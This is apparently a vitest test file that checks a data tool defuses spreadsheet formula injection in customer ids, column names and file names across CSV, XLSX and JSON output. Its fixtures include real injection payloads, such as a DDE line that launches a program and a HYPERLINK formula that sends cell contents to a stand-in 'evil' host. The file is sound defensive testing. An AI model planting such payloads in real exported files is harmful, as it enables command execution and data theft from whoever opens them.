import { readFileSync } from 'node:fs';
import { readXlsx } from 'hucre/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { unguarded } from '../../src/domain/tidy/guarded-text.ts';
import { type Graded, gradeFiles } from '../support/grade-files.ts';
import { readCsvStrictly } from '../support/read-csv-strictly.ts';
import { referencePath } from '../support/reference-data.ts';
import { unzip } from '../support/unzip.ts';
import { csvText } from '../support/write-csv.ts';

/** Cell beginnings after which a spreadsheet takes a text for a formula. */
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil/?x="&A1,"click")',
  '+cmd',
  '+1+1',
  '-x',
  '-1-1',
  '@SUM(1+9)',
  '＝1+1',
  '＋1+1',
  '－x',
  '＠SUM(1)',
  '=1,2',
  '=1;2',
  "=1'2",
  '-5e',
  '-x',
  '--5',
];
const plain = [
  '-5',
  '+442071234567',
  '+86 138',
  '-5.25',
  '007',
  'ada=1+1',
  "o'neil",
  'a,b',
  'a"b',
  '李=雷',
  '5%',
];

interface Attack {
  readonly id: string;
  readonly payload: string;
}

const attacksFile = referencePath('..', 'attacks.jsonl');
const attacks: Attack[] = (attacksFile === undefined ? '' : readFileSync(attacksFile, 'utf8'))
  .split('\n')
  .filter((line) => line.includes('"FORM/'))
  .map((line) => JSON.parse(line) as Attack);

/** Ids are read without blanks at their ends. */
const payloads = attacks.filter(({ id }) => id !== 'FORM-15').map(({ payload }) => payload.trim());
/** A spreadsheet that splits cells at other places would run it. */
const split = { id: '","=1+1","', harmless: `'","'=1+1","` };
const ids = [...new Set([...formulas, ...plain, split.id, ...payloads])];

const orders = csvText([
  ['customer_id', 'ordered_at', 'amount'],
  ...ids.map((id) => [id, '2026-01-01', '150']),
]);

let graded: Graded;
let cells: string[];

beforeAll(async () => {
  graded = await gradeFiles({ orders });
  cells = readCsvStrictly(graded.out.toString('utf8'))
    .slice(1)
    .map(([id = '']) => id);
});

describe('an id that a spreadsheet would run is made harmless (R040)', () => {
  it.each(formulas)('%j begins with a quote in the CSV', (id) => {
    expect(graded.rejects.map(({ value }) => value)).not.toContain(id);
    expect(cells).toContain(`'${id}`);
    expect(cells).not.toContain(id);
  });

  it.each(plain)('%j stays as it is', (id) => {
    expect(cells).toContain(id);
  });

  it('no cell of the CSV begins like a formula, but numbers do', () => {
    const all = readCsvStrictly(graded.out.toString('utf8')).flat();
    const dangerous = all.filter((cell) => starts.includes(cell.charAt(0)));
    expect(dangerous.sort()).toEqual(['+442071234567', '+86 138', '-5', '-5.25']);
  });

  it('a formula behind a separator is one no more', () => {
    expect(cells).toContain(split.harmless);
    expect(cells).not.toContain(split.id);
  });

  it.for(['FORM-01', 'FORM-03', 'FORM-05', 'FORM-07', 'FORM-09', 'FORM-11', 'FORM-13'])(
    'attack %s does nothing',
    (name, { skip }) => {
      const attack =
        attacks.find(({ id }) => id === name) ?? skip('attacks.jsonl is not beside the reference data');
      const id = attack.payload.trim();
      const expected = starts.includes(id.charAt(0)) ? `'${id}` : id;
      expect(cells).toContain(id === split.id ? split.harmless : expected);
    },
  );

  it('every id is a text in the workbook, as it was written, and no cell is a formula', async () => {
    const { out } = await gradeFiles({ orders, out: 'out.xlsx' });
    const rows = (await readXlsx(out)).sheets[0]?.rows ?? [];
    expect(rows.slice(1).map(([id]) => id)).toEqual(
      cells.map((cell) => (cell.startsWith("'") ? unguarded(cell) : cell)),
    );
    const sheets = [...unzip(out)].filter(([name]) => name.startsWith('xl/worksheets/'));
    expect(sheets).toHaveLength(1);
    expect(sheets[0]?.[1]).toContain('<sheetData>');
    expect(sheets[0]?.[1]).not.toMatch(/<f[ >]/);
  });

  it('every id is itself in JSON', async () => {
    const { out } = await gradeFiles({ orders, out: 'out.json' });
    const rows = JSON.parse(out.toString('utf8')) as { customer_id: string }[];
    expect(rows.map(({ customer_id }) => customer_id).sort()).toEqual([...ids].sort());
  });

  it('our own CSV reads back as the same customers', async () => {
    const back = `customer_id,ordered_at,amount\r\n${csvText(cells.map((id) => [id, '2026-01-01', '150']))}`;
    const again = await gradeFiles({ orders: back });
    expect(again.out.toString('utf8')).toBe(graded.out.toString('utf8'));
  });
});

describe('the file of rejected rows is as harmless (R005–R008, R040)', () => {
  it('where the value, the column’s name or the file’s name is a formula', async () => {
    const { rejects } = await gradeFiles({
      orders: {
        '=1+1.csv':
          'customer_id,ordered_at,=HYPERLINK(1)\nada,2026-01-01,=1+1\nbob,2026-01-01,-5x\neve,2026-01-01,2\n',
      },
      args: ['--map', 'amount==HYPERLINK(1)'],
    });
    expect(rejects.map(({ value }) => value)).toEqual(["'=1+1", "'-5x"]);
    expect(rejects.map(({ column }) => column)).toEqual(["'=HYPERLINK(1)", "'=HYPERLINK(1)"]);
    for (const { file = '' } of rejects) expect(starts).not.toContain(file.charAt(0));
  });
});
